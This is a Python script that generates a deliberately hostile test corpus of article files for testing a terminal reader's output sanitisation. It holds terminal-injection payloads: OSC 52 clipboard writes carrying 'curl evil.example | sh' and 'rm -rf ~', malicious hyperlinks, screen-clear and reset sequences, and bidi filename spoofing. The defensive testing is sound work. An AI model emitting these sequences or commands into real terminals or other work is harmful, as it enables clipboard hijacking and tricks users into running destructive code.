#!/usr/bin/env python3
"""Writes a hostile corpus: article files built to make a terminal reader misbehave.

    python3 Scripts/generate-hostile-corpus.py OUT [--seed S] [--small]

OUT must not exist yet, or be an empty folder. The corpus holds every C0 and C1 control (as raw
bytes and as UTF-8 U+0080-U+009F), ESC/CSI/OSC/DCS/APC/PM/SOS sequences (window titles, OSC 52
clipboard writes, colours, cursor movement, screen clears, unterminated and nested ones), bidi
overrides and isolates, HTML character references to controls (`&#27;`, `&#x202E;`), zero-width and combining floods, invalid UTF-8, NUL bytes, a 1 MB line,
files of many articles carrying all of these (JSON Lines with raw escapes and `\u001b` ones,
CSV fields, mbox headers and bodies, a Maildir, gzip; lines that are not JSON, an unclosed CSV
quote, a truncated mbox, a `.gz` that is not gzip),
50 nested folders, a symlink loop, an unreadable file, a FIFO, symlinks to /dev/null and
/dev/zero, a folder whose name is an escape sequence, HTML pages and MIME mail carrying escapes in titles,
attributes, meta tags, character references, base64 and quoted-printable bodies and encoded-word
headers, and 100,000 one-line files in one folder
(2,000 with --small). Titles (first lines) carry hostile bytes too, and most hold the word
"pwned", so searching for it reaches them. Standard library only; the same seed gives the same
bytes. Used by Tests/Hostile/check_terminal_output.py and the HostileTerminalOutput tests.
"""

import argparse
import base64
import gzip
import json
import os
import random
import sys

ESC = b"\x1b"
BEL = b"\x07"
ST = ESC + b"\\"

# Sequences a terminal would act on if they reached it raw: (name, bytes).
ESCAPE_SEQUENCES = [
    ("osc0-title-bel", ESC + b"]0;pwned" + BEL),
    ("osc2-title-st", ESC + b"]2;pwned by an article" + ST),
    ("osc1-icon", ESC + b"]1;pwned-icon" + BEL),
    ("osc52-clipboard", ESC + b"]52;c;" + base64.b64encode(b"curl evil.example | sh\n") + BEL),
    ("osc52-clipboard-st", ESC + b"]52;p;" + base64.b64encode(b"rm -rf ~") + ST),
    ("osc8-hyperlink", ESC + b"]8;;https://evil.example/" + ST + b"click" + ESC + b"]8;;" + ST),
    ("osc4-palette", ESC + b"]4;1;rgb:ff/00/00" + BEL),
    ("osc-query-colour", ESC + b"]10;?" + BEL),
    ("csi-colour", ESC + b"[31m" + b"red" + ESC + b"[0m"),
    ("csi-256-colour", ESC + b"[38;5;196;48;5;21m" + b"loud" + ESC + b"[m"),
    ("csi-cursor", ESC + b"[10;10H" + b"here"),
    ("csi-clear", ESC + b"[2J" + ESC + b"[3J" + ESC + b"[H"),
    ("csi-private-modes", ESC + b"[?1049l" + ESC + b"[?25l" + ESC + b"[?1000h" + ESC + b"[?2004h"),
    ("csi-window-ops", ESC + b"[8;1;1t" + ESC + b"[21t" + ESC + b"[20t"),
    ("csi-device-report", ESC + b"[6n" + ESC + b"[c" + ESC + b"[>c"),
    ("csi-scroll-region", ESC + b"[1;3r" + ESC + b"[5S"),
    ("dcs", ESC + b"P1$r0m" + ST + ESC + b'P+q544e' + ST),
    ("dcs-sixel", ESC + b"Pq#0;2;0;0;0#1;2;100;100;0#1~~@@vv@@~~@@~~$-" + ST),
    ("apc", ESC + b"_Gf=100,a=T;AAAA" + ST),
    ("pm", ESC + b"^privacy message" + ST),
    ("sos", ESC + b"Xstart of string" + ST),
    ("esc-reset", ESC + b"c"),
    ("esc-charset", ESC + b"(0" + b"lqqk" + ESC + b"(B"),
    ("esc-keypad-save", ESC + b"=" + ESC + b"7" + ESC + b"8" + ESC + b"M" + ESC + b"D" + ESC + b"#8"),
    ("nested-esc-in-osc", ESC + b"]0;pw" + ESC + b"]2;ned" + BEL + b"tail" + ESC + b"[31m"),
    ("esc-esc-csi", ESC + ESC + b"[31m" + b"x"),
    ("c1-8bit-csi-utf8", "\u009b31m".encode() + b"c1red" + "\u009b2J".encode()),
    ("c1-8bit-osc-utf8", "\u009d0;pwned\u009c".encode() + "\u009d52;c;cHduZWQ=\u0007".encode()),
    ("c1-8bit-dcs-utf8", "\u0090q\u009c".encode() + "\u009fapc\u009c".encode() + "\u009epm\u009c".encode()),
    ("c1-8bit-raw", b"\x9b31m raw \x9d0;pwned\x07 \x9c \x90dcs\x9c"),
    # HTML character references naming controls: folio decodes references, but never these.
    ("html-ref-esc", b"&#27;[2J&#x1b;]0;pwned&#7;&#X1B;[31m&#x9b;31m&#155;2J&#0;"),
    ("html-ref-bidi", b"&#8238;&#x202E;&rlm;&lrm;&#x2066;&#xFEFF;&#1564;"),
    ("html-ref-out-of-range", b"&#xD800;&#55296;&#x110000;&#99999999;&amp;#27;[2J"),
]

# Ends of files and lines that leave a sequence open.
UNTERMINATED = [
    ("unterminated-osc-eof", ESC + b"]0;pwned and never ended"),
    ("unterminated-csi-eof", ESC + b"[38;5;"),
    ("unterminated-esc-eof", ESC),
    ("unterminated-dcs-eof", ESC + b"Pq#0;2;0;0;0"),
    ("unterminated-apc-eof", ESC + b"_Ga=T;"),
    ("unterminated-c1-osc-eof", "\u009d2;pwned".encode()),
]
UNTERMINATED_BEFORE_NEWLINE = [
    ("unterminated-osc-line", ESC + b"]2;pwned title\nnext line is text\n"),
    ("unterminated-csi-line", ESC + b"[31;\nnext line is text\n"),
    ("unterminated-esc-line", ESC + b"\nnext line is text\n"),
    ("unterminated-dcs-line", ESC + b"P$q\nnext line is text\n"),
]

BIDI = ["\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069",
        "\u200e", "\u200f", "\u061c"]
ZERO_WIDTH = ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u034f", "\u180e", "\u00ad"]
COMBINING = [chr(c) for c in range(0x300, 0x370)]


class Corpus:
    def __init__(self, root, rng):
        self.root = root
        self.rng = rng
        self.counts = {}

    def path(self, folder, name):
        directory = os.path.join(self.root, folder) if folder else self.root
        os.makedirs(directory, exist_ok=True)
        return os.path.join(directory, name)

    def write(self, kind, folder, name, data):
        with open(self.path(folder, name), "wb") as handle:
            handle.write(data)
        self.counts[kind] = self.counts.get(kind, 0) + 1

    def article(self, kind, folder, name, title, body):
        """A news-style article: title line, blank line, body."""
        self.write(kind, folder, name, title + b"\n\n" + body + b"\n")

    def words(self, count):
        vocabulary = ["reader", "terminal", "escape", "control", "article", "pwned", "title",
                      "clipboard", "window", "cursor", "colour", "sequence", "byte", "hostile"]
        return " ".join(self.rng.choice(vocabulary) for _ in range(count)).encode()


def write_controls(corpus):
    for code in range(0x00, 0x20):
        raw = bytes([code])
        corpus.article("C0 controls", "controls", f"c0-{code:02x}.txt",
                       b"C0 " + raw + b" pwned control " + raw + f"{code:02x}".encode(),
                       b"before " + raw + b" after " + raw * 3 + b" " + corpus.words(20))
    corpus.article("C0 controls", "controls", "del-7f.txt", b"DEL \x7f pwned \x7f",
                   b"before \x7f after " + corpus.words(20))
    for code in range(0x80, 0xA0):
        utf8 = chr(code).encode()
        corpus.article("C1 controls (UTF-8)", "controls", f"c1-utf8-{code:02x}.txt",
                       b"C1 " + utf8 + b" pwned utf8 " + utf8 + f"{code:02x}".encode(),
                       b"before " + utf8 + b" after " + utf8 * 3 + b" " + corpus.words(20))
        raw = bytes([code])
        corpus.article("C1 controls (raw bytes)", "controls", f"c1-raw-{code:02x}.txt",
                       b"C1 raw " + raw + b" pwned raw " + raw + f"{code:02x}".encode(),
                       b"before " + raw + b" after " + raw * 3 + b" " + corpus.words(20))
    everything = bytes(range(0x01, 0x20)) + b"\x7f" + "".join(chr(c) for c in range(0x80, 0xA0)).encode()
    corpus.article("C0 controls", "controls", "all-controls.txt",
                   b"all controls pwned " + everything, (everything + b" ") * 10 + corpus.words(30))


def write_escapes(corpus):
    for name, sequence in ESCAPE_SEQUENCES:
        corpus.article("escape sequences", "escapes", name + ".txt",
                       b"pwned " + sequence + b" " + name.encode() + b" " + sequence,
                       corpus.words(10) + b" " + sequence + b" " + corpus.words(10) + b"\n\n"
                       + (sequence + b"pwned ") * 5 + b"\n" + corpus.words(200))
    for name, sequence in UNTERMINATED:
        corpus.write("unterminated sequences", "escapes", name + ".txt",
                     b"pwned " + name.encode() + b"\n\n" + corpus.words(30) + b" pwned " + sequence)
    for name, sequence in UNTERMINATED_BEFORE_NEWLINE:
        corpus.write("unterminated sequences", "escapes", name + ".txt",
                     b"pwned " + sequence + b"\n" + corpus.words(30) + b" pwned " + sequence + corpus.words(30))
    # Every sequence at once, many times: a long article, so Space and G scroll through it.
    mixed = b"".join(sequence + b" pwned " + corpus.words(8) + b"\n" for _, sequence in ESCAPE_SEQUENCES)
    corpus.article("escape sequences", "escapes", "everything.txt",
                   b"everything pwned " + b"".join(s for _, s in ESCAPE_SEQUENCES[:6]), mixed * 20)


def write_unicode(corpus):
    bidi = "".join(BIDI).encode()
    corpus.article("bidi controls", "unicode", "bidi.txt",
                   b"bidi pwned \xe2\x80\xaeevil.exe\xe2\x80\xac txt " + bidi,
                   "access level: \u202e \u2066// check admin\u2069 \u2066if (user)\u2069 pwned\n".encode() * 20
                   + (bidi + b" pwned ") * 50)
    zero_width = "".join(ZERO_WIDTH).encode()
    corpus.article("zero-width flood", "unicode", "zero-width.txt",
                   b"zero" + zero_width * 50 + b"width pwned",
                   (b"p" + zero_width + b"w" + zero_width + b"ned ") * 2000)
    flood = "".join(corpus.rng.choice(COMBINING) for _ in range(10_000)).encode()
    corpus.article("combining flood", "unicode", "combining-flood.txt",
                   b"combining pwned a" + flood[:2000], b"a" + flood + b" pwned e" + flood + b"\n" + corpus.words(50))
    corpus.article("combining flood", "unicode", "zalgo-lines.txt", b"zalgo pwned",
                   b"\n".join(b"".join(bytes([c]) + "".join(corpus.rng.choice(COMBINING) for _ in range(40)).encode()
                                       for c in b"pwned text line") for _ in range(40)))
    invalid = [b"\xff", b"\xfe", b"\xc0\xaf", b"\xe0\x80\xaf", b"\xed\xa0\x80", b"\xf4\x90\x80\x80",
               b"\xc3", b"\xe2\x82", b"\x80", b"\xbf", b"\xf8\x88\x80\x80\x80"]
    corpus.article("invalid UTF-8", "unicode", "invalid-utf8.txt",
                   b"invalid pwned " + b"".join(invalid), (b"".join(invalid) + b" pwned \xe2\x80\x9cok\xe2\x80\x9d ") * 100)
    corpus.article("invalid UTF-8", "unicode", "truncated-at-end.txt", b"truncated pwned",
                   corpus.words(40) + b" \xe2\x82")
    corpus.write("other Unicode", "unicode", "utf16-bom.txt",
                 "\ufeffutf16 pwned \u202e\u001b]0;pwned\u0007\n\nbody \u009b2J pwned \u001b[31m\n".encode("utf-16-le"))
    corpus.write("other Unicode", "unicode", "bom-utf8.txt",
                 b"\xef\xbb\xbfbom pwned\n\n\xef\xbb\xbfbody pwned\n")
    corpus.article("other Unicode", "unicode", "specials.txt",
                   "specials pwned \ufff9\ufffa\ufffb\u2028\u2029\U000e0001\U000e0070".encode(),
                   "tag chars \U000e0070\U000e0077\U000e006e line sep\u2028para sep\u2029 noncharacter \ufffe\uffff pwned".encode() * 20)


def write_markup(corpus):
    """HTML pages and MIME mail: escapes where decoding brings them out (attributes, titles, meta
    tags, character references, base64 and quoted-printable bodies, RFC 2047 encoded words)."""
    hostile = ESC + b"]0;pwned" + BEL + ESC + b"[31m" + "\u009b2J\u202e".encode() + ESC + b"]52;c;cHduZWQ=" + BEL
    references = b"&#27;]0;pwned&#7;&#x1b;[2J&#x9b;31m&#155;2J&#x202E;&#X1B;P1$r&#x9c;"
    page = (b"<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>page pwned " + hostile + references
            + b"</title><meta property=\"og:title\" content=\"og pwned " + hostile + references + b"\">"
            + b"<meta property=\"og:site_name\" content=\"site " + hostile + b"\">"
            + b"<meta name=\"author\" content=\"author " + hostile + references + b"\">"
            + b"<meta property=\"og:url\" content=\"https://evil.example/" + hostile + b"\">"
            + b"<meta property=\"article:published_time\" content=\"2024-01-01" + hostile + b"\">"
            + b"</head><body><article><h1 title=\"" + hostile + b"\">heading pwned " + references + b"</h1>"
            + b"<p>" + corpus.words(20) + b" " + hostile + b" " + references + b"</p>"
            + b"<p><a href=\"https://evil.example/" + hostile + b"\">link pwned " + hostile + b"</a> "
            + b"<a href=\"javascript:" + hostile + b"\">script link</a></p>"
            + b"<pre>" + hostile + b" pre pwned " + references + b"</pre><ul><li>" + hostile + b" item pwned</li></ul>"
            + b"<table><tr><td>" + hostile + b" cell</td></tr></table><blockquote>" + references + b"</blockquote>"
            + b"</article></body></html>\n")
    corpus.write("HTML pages", "markup", "escapes.html", page)
    corpus.write("HTML pages", "markup", "escapes-latin1.htm",
                 b"<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=iso-8859-1\">"
                 b"<title>latin1 pwned \xe9 \x9b2J \x1b[31m</title></head><body><p>caf\xe9 \x9b31m pwned \x9d0;x\x07"
                 + references + b"</p></body></html>\n")
    corpus.write("HTML pages", "markup", "no-body-escapes.html", b"<html><head><title>" + hostile + b"</title></head></html>")

    body = b"mail body pwned " + hostile + b" " + corpus.words(20) + b"\n"
    subject = b"=?utf-8?b?" + base64.b64encode(b"subject pwned " + hostile) + b"?="
    sender = b"=?utf-8?q?Eve_=1B]0;pwned=07_=1B[31m?= <eve@example.org>"
    qp = b"qp pwned =1B]0;pwned=07 =1B[2J =C2=9B31m =E2=80=AE=\n joined =9B2J=1B]52;c;cHduZWQ=3D=07\n"
    header = (b"From: " + sender + b"\nSubject: " + subject + b"\nDate: Mon, 1 Jan 2024 00:00:00 +0000\n"
              + b"Message-ID: <" + hostile + b"@example.org>\nMIME-Version: 1.0\n")
    corpus.write("MIME mail", "markup", "base64.eml", header
                 + b"Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: base64\n\n"
                 + base64.encodebytes(body))
    corpus.write("MIME mail", "markup", "quoted-printable.eml", header
                 + b"Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: quoted-printable\n\n" + qp)
    corpus.write("MIME mail", "markup", "multipart.eml", header
                 + b"Content-Type: multipart/mixed; boundary=\"b\"\n\n--b\nContent-Type: multipart/alternative; boundary=c\n\n"
                 + b"--c\nContent-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: base64\n\n"
                 + base64.encodebytes(b"<p>html part pwned " + hostile + references + b"</p>")
                 + b"--c--\n--b\nContent-Type: text/plain; charset=koi8-r\nContent-Transfer-Encoding: base64\n\n"
                 + base64.encodebytes(b"koi8 " + hostile + b" \xf0\xd2\xc9\xd7\xc5\xd4")
                 + b"--b\nContent-Type: application/pdf\nContent-Disposition: attachment; filename=\"=?utf-8?q?file=1B]0;pwned=07?=.pdf\"\n"
                 + b"Content-Transfer-Encoding: base64\n\nJVBERi0=\n--b\n")
    corpus.write("MIME mail", "markup", "usenet-encoded-words", b"Newsgroups: =?utf-8?q?alt.pwned=1B[31m?=\n"
                 + b"Subject: =?iso-8859-1?q?caf=E9_=1B]0;pwned=07?= =?utf-8?b?" + base64.b64encode(hostile) + b"?=\n"
                 + b"From: usenet@example.org\n\nplain usenet body pwned " + hostile + b"\n")


def write_files(corpus, small):
    corpus.write("NUL bytes (binary)", "files", "nul.txt", b"nul pwned\x00title\n\nbody\x00\x00\x00 pwned\n")
    corpus.write("NUL bytes (binary)", "files", "binary-no-extension",
                 bytes(corpus.rng.randrange(256) for _ in range(4096)))
    corpus.write("empty files", "files", "empty.txt", b"")
    line = (corpus.words(20) + b" \x1b[31m \x1b]0;pwned\x07 ") * 1
    long_line = (line * (1_048_576 // len(line) + 1))[:1_048_576]
    corpus.article("1 MB line", "files", "one-mb-line.txt", b"one megabyte line pwned", long_line)
    corpus.write("1 MB line", "files", "one-mb-title.txt", long_line + b"\n\nbody pwned\n")
    folder = "deep"
    for level in range(1, 51):
        folder = os.path.join(folder, f"d{level:02d}")
    corpus.article("deep folders (50 levels)", folder, "deep.txt", b"deep pwned \x1b]2;deep\x07", corpus.words(30))
    # A folder whose name is itself an escape sequence: the source shown for an article is its folder.
    hostile_folder = os.fsdecode(b"src-\x1b]0;pwned-folder\x07-\x1b[31m-\xc2\x9b2J-\xff")
    corpus.article("hostile names", hostile_folder, os.fsdecode(b"name-\x1b]0;pwned\x07.txt"),
                   b"folder name pwned", corpus.words(30))
    corpus.article("hostile names", "files", os.fsdecode(b"file-\x1b[2J-\x1b]52;c;cHduZWQ=\x07.md"),
                   b"# file name pwned \x1b[31m", corpus.words(30))

    special = os.path.join(corpus.root, "special")
    os.makedirs(special, exist_ok=True)
    os.symlink("..", os.path.join(special, "loop-up"))
    os.symlink("loop-b", os.path.join(special, "loop-a.txt"))
    os.symlink("loop-a.txt", os.path.join(special, "loop-b"))
    os.symlink("self.txt", os.path.join(special, "self.txt"))
    corpus.counts["symlink loops"] = 4
    os.symlink("/dev/null", os.path.join(special, "dev-null.txt"))
    os.symlink("/dev/zero", os.path.join(special, "dev-zero.txt"))
    os.symlink("/dev/zero", os.path.join(special, "dev-zero"))
    corpus.counts["symlinks to devices"] = 3
    os.symlink("/nonexistent/pwned.txt", os.path.join(special, "dangling.txt"))
    corpus.counts["dangling symlinks"] = 1
    if hasattr(os, "mkfifo"):
        os.mkfifo(os.path.join(special, "fifo.txt"))
        os.mkfifo(os.path.join(special, "fifo"))
        corpus.counts["FIFOs"] = 2
    unreadable = os.path.join(special, "unreadable.txt")
    corpus.article("unreadable files", "special", "unreadable.txt", b"unreadable pwned", b"secret")
    os.chmod(unreadable, 0)
    locked = os.path.join(special, "locked-folder")
    corpus.article("unreadable files", os.path.join("special", "locked-folder"), "inside.txt", b"locked pwned", b"x")
    os.chmod(locked, 0)

    many = 2_000 if small else 100_000
    directory = os.path.join(corpus.root, "many")
    os.makedirs(directory, exist_ok=True)
    controls = [b"\x1b]0;pwned\x07", b"\x1b[31m", b"\x9b2J", "\u009d0;x\u0007".encode(), b"\x00", b"\x07",
                "\u202e".encode(), b"\x1b[10;10H", b"\x08\x08\x08", b"\r"]
    for index in range(many):
        hostile = controls[index % len(controls)] if index % 3 == 0 else b""
        with open(os.path.join(directory, f"{index:06d}.txt"), "wb") as handle:
            handle.write(b"line " + str(index).encode() + b" pwned " + hostile + b" one-liner\n")
    corpus.counts["one-line files in one folder"] = many


def write_containers(corpus):
    """Files of many articles, each record carrying escape sequences raw and as JSON escapes."""
    hostile = [sequence for _, sequence in ESCAPE_SEQUENCES]
    lines = []
    for index, sequence in enumerate(hostile):
        text = sequence.decode("latin-1")
        record = {"title": f"jsonl pwned {index} {text}", "text": f"body {text} pwned", "author": text,
                  "source": f"src{text}", "url": f"https://x.example/{text}", "date": f"2020-01-0{index % 9 + 1}{text}"}
        # ensure_ascii writes every control as \u00XX: the escaped form.
        lines.append(json.dumps(record, ensure_ascii=True).encode())
        # The same bytes raw inside the JSON strings (JSON forbids them; folio reads them and drops them).
        lines.append(b'{"headline": "jsonl raw pwned ' + sequence.replace(b"\\", b"") + b'", "body": "raw ' + sequence.replace(b'"', b"") + b'"}')
    lines.append(b'{"title": "surrogates pwned \\ud83d\\ude00 \\ud800 \\u202e \\u009b2J \\u0000", "text": "x"}')
    lines.append(b"not json pwned \x1b]0;pwned\x07")
    lines.append(b'["array", "pwned"]')
    lines.append(b'{"title": "invalid utf-8 pwned \xff\xfe \xc2\x9b2J", "text": "bytes \xed\xa0\x80"}')
    jsonl = b"\n".join(lines) + b"\n"
    corpus.write("JSON Lines records", "containers", "hostile.jsonl", jsonl)
    corpus.write("gzip files", "containers", "hostile.jsonl.gz", gzip.compress(jsonl, mtime=0))
    corpus.write("gzip files", "containers", "not-gzip.txt.gz", b"not gzip pwned \x1b[2J\n")

    rows = [b"title,date,text"]
    for index, sequence in enumerate(hostile):
        quoted = sequence.replace(b'"', b'""')
        rows.append(b'"csv pwned ' + quoted + b'",2021-02-03,"line one ' + quoted + b'\r\nline two pwned"')
    rows.append(b'"csv unclosed pwned \x1b]0;pwned\x07,2021-02-03,never closed')
    corpus.write("CSV rows", "containers", "hostile.csv", b"\r\n".join(rows) + b"\r\n")

    messages = []
    for index, sequence in enumerate(hostile):
        messages.append(b"From pwned@x.example Thu Jan  1 12:00:00 2015\n"
                        b"From: Evil " + sequence + b" <e@x.example>\nSubject: mbox pwned " + sequence +
                        b"\nDate: Thu, 01 Jan 2015 12:00:00 +0000\nMessage-ID: <" + str(index).encode() + sequence +
                        b"@x.example>\n\nBody pwned " + sequence + b"\n>From quoted " + sequence + b"\n")
    messages.append(b"From cut@x.example Thu Jan  1 12:00:00 2015\nSubject: truncated pwned \x1b]0;pw")
    corpus.write("mbox messages", "containers", "hostile.mbox", b"\n".join(messages))
    for part in ("cur", "new", "tmp"):
        os.makedirs(os.path.join(corpus.root, "containers", "maildir", part), exist_ok=True)
    for index, sequence in enumerate(hostile[:6]):
        part = "cur" if index % 2 else "new"
        name = f"{1_600_000_000 + index}.M{index}.pwned" + (":2,S" if index % 2 else "")
        corpus.write("Maildir messages", os.path.join("containers", "maildir", part), name,
                     b"From: A <a@b>\nSubject: maildir pwned " + sequence + b"\n\nBody " + sequence + b"\n")


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("out", help="the folder to write (must not exist or be empty)")
    parser.add_argument("--seed", type=int, default=6, help="random seed (default 6)")
    parser.add_argument("--small", action="store_true", help="2,000 one-line files instead of 100,000")
    options = parser.parse_args()

    if os.path.exists(options.out) and os.listdir(options.out):
        sys.exit(f"generate-hostile-corpus: {options.out} exists and is not empty")
    os.makedirs(options.out, exist_ok=True)
    corpus = Corpus(options.out, random.Random(options.seed))
    write_controls(corpus)
    write_escapes(corpus)
    write_unicode(corpus)
    write_markup(corpus)
    write_files(corpus, options.small)
    write_containers(corpus)

    total = sum(corpus.counts.values())
    print(f"hostile corpus in {options.out} (seed {options.seed}{', small' if options.small else ''}): {total} entries")
    for kind, count in corpus.counts.items():
        print(f"  {count:>7}  {kind}")


if __name__ == "__main__":
    main()
